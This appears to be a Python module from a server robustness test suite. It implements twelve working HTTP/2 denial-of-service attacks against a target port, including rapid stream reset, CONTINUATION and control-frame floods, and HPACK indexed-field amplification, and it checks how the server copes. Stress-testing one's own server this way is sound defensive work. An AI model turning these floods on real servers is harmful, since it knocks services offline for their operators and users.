"""HTTP/2 frames without end."""

from __future__ import annotations

import struct
import time

from benches.hostile.attack import Attack, Bounds, Target
from benches.hostile.clients import connect, flood, get
from benches.hostile.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    ended,
    frame,
    head,
    opened,
)

_BYTES_MAX = 40 << 20
_CANCEL = struct.pack(">I", 8)
_FIELD = b"\x40\x01x\x01y"


def rapid_reset(target: Target) -> str:
    """Streams that are opened and reset at once, on one connection after another."""
    found: dict[str, int] = {}
    opened_streams, until = 0, time.monotonic() + target.seconds
    while time.monotonic() < until and opened_streams < 20_000:
        with opened(target.port) as connection:
            for first in range(1, 2_001, 200):
                streams = range(first, first + 200, 2)
                data = b"".join(head(nr, "/ping") + frame(RST_STREAM, 0, nr, _CANCEL) for nr in streams)
                try:
                    connection.sendall(data)
                except OSError:
                    break
                opened_streams += len(streams)
            end = ended(connection, 1.0)
            found[end] = found.get(end, 0) + 1
    return f"{opened_streams} streams; " + ", ".join(f"{count} × {end}" for end, count in found.items())


def abandoned(target: Target) -> str:
    """Slow work, begun and reset: no more of it at a time than streams_max."""
    with opened(target.port) as connection:
        for stream in range(1, 801, 2):
            try:
                connection.sendall(head(stream, "/sleep?5"))
                time.sleep(0.002)
                connection.sendall(frame(RST_STREAM, 0, stream, _CANCEL))
            except OSError:
                break
        with connect(target.port) as asking:
            asking.sendall(get("/running", "Connection: close"))
            running = _number(asking)
        end = ended(connection, 0.5)
    assert running <= 100, f"{running} ran at once, streams_max is 100; {end}"
    return f"{running} ran at once; {end}"


def _number(asking) -> int:
    asking.settimeout(10)
    received = b""
    while data := asking.recv(1 << 16):
        received += data
    return int(received.rpartition(b"\r\n")[2] or 0)


def _flooded(target: Target, piece: bytes, first: bytes = b"", reads: bool = False) -> str:
    with opened(target.port) as connection:
        connection.sendall(first)
        sent = flood(connection, piece, target.seconds / 2, _BYTES_MAX, reads)
        return f"{sent / 1e6:.1f} MB taken, {ended(connection, 1.0)}"


def continuations(target: Target) -> str:
    return _flooded(target, frame(CONTINUATION, 0, 1, _FIELD * 100) * 50, frame(HEADERS, 0, 1, b"\x82"))


def empty_continuations(target: Target) -> str:
    return _flooded(target, frame(CONTINUATION, 0, 1) * 1_000, frame(HEADERS, 0, 1, b"\x82"))


def settings_unread(target: Target) -> str:
    return _flooded(target, frame(SETTINGS, payload=b"\x00\x03\x00\x00\x00\x01") * 1_000)


def settings_read(target: Target) -> str:
    return _flooded(target, frame(SETTINGS, payload=b"\x00\x03\x00\x00\x00\x01") * 1_000, reads=True)


def pings_unread(target: Target) -> str:
    return _flooded(target, frame(PING, payload=bytes(8)) * 1_000)


def priorities(target: Target) -> str:
    return _flooded(target, frame(PRIORITY, 0, 1, bytes([0, 0, 0, 3, 1])) * 1_000)


def window_updates(target: Target) -> str:
    return _flooded(target, frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 1_000)


def empty_data(target: Target) -> str:
    return _flooded(target, frame(DATA, 0, 1) * 1_000, head(1, "/read", posts=True))


def unknown_frames(target: Target) -> str:
    return _flooded(target, frame(200, payload=bytes(100)) * 100)


def indexed_fields(target: Target) -> str:
    """A field of 4 KB, then the same by its index, three thousand times in a head."""
    literal = b"\x40\x01x\x7f" + _integer(4_000 - 127) + b"y" * 4_000
    first = b"\x82\x86\x84\x01\x01a" + literal
    with opened(target.port) as connection:
        connection.sendall(frame(HEADERS, END_STREAM, 1, first))
        connection.sendall(frame(CONTINUATION, END_HEADERS, 1, b"\xbe" * 3_000))
        return ended(connection, 2.0)


def _integer(number: int) -> bytes:
    """The rest of an integer of HPACK."""
    found = b""
    while number >= 128:
        found += bytes([number % 128 | 128])
        number //= 128
    return found + bytes([number])


ATTACKS = [
    Attack("rapid reset", rapid_reset, quick=True),
    Attack("slow work, abandoned", abandoned, flags=("-w", "1"), quick=True),
    Attack("CONTINUATION", continuations, quick=True),
    Attack("CONTINUATION, empty", empty_continuations),
    Attack("SETTINGS, answers unread", settings_unread, quick=True),
    Attack("SETTINGS, answers read", settings_read),
    Attack("PING, answers unread", pings_unread),
    Attack("PRIORITY", priorities),
    Attack("WINDOW_UPDATE", window_updates),
    Attack("empty DATA", empty_data),
    Attack("unknown frames", unknown_frames),
    Attack("indexed fields", indexed_fields, Bounds(failed_max=0), quick=True),
]
